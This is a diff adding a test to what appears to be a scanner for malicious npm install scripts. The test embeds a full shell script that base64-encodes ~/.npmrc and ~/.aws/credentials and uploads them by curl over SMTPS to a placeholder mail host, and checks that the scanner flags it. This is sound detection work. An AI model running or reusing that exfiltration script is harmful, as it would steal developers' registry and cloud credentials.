@@ -409,3 +409,21 @@ def test_a_powershell_script_that_splits_the_amsi_function_name_into_joined_part
     found = findings(artifact({"postinstall": "powershell -File sta.ps1"}, {"sta.ps1": script}))
     off = next(f for f in found if f.rule == "install-script/defence-off")
     assert off.file == "sta.ps1" and off.line == 2
+
+
+def test_a_script_that_writes_credential_files_into_a_file_and_uploads_it():
+    # Blind set 14's tailwind preset: a `{ … } > "$M"` group base64s credential files in a loop into a
+    # temporary file, which curl then uploads over SMTPS.
+    script = (b"#!/bin/sh\nM=\"${TMPDIR:-/tmp}/.m.$$\"\n{\n  printf 'Subject: x\\r\\n'\n"
+              b"  for f in \"$HOME/.npmrc\" \"$HOME/.aws/credentials\"; do\n    [ -r \"$f\" ] || continue\n"
+              b"    base64 < \"$f\"\n  done\n} > \"$M\"\n"
+              b"curl -s --url 'smtps://smtp.mail.invalid:465' --mail-rcpt 'a@mail.invalid' --upload-file \"$M\"\n")
+    found = findings(artifact({"postinstall": "sh ./s.sh"}, {"s.sh": script}))
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sent.line == 10 and sent.details["read_at"] == 5
+    # A group that writes a build log, or a line that writes a token into .npmrc, sends no credential file.
+    log = script.replace(b"\"$HOME/.npmrc\" \"$HOME/.aws/credentials\"", b"dist/*.js")
+    assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"postinstall": "sh ./s.sh"}, {"s.sh": log}))}
+    npmrc = (b"#!/bin/sh\nN=\"$HOME/.npmrc\"\necho \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > \"$N\"\n"
+             b"curl -fsSL -o pkg.tgz https://registry.npmjs.org/x/-/x-1.0.0.tgz\n")
+    assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"postinstall": "sh ./s.sh"}, {"s.sh": npmrc}))}
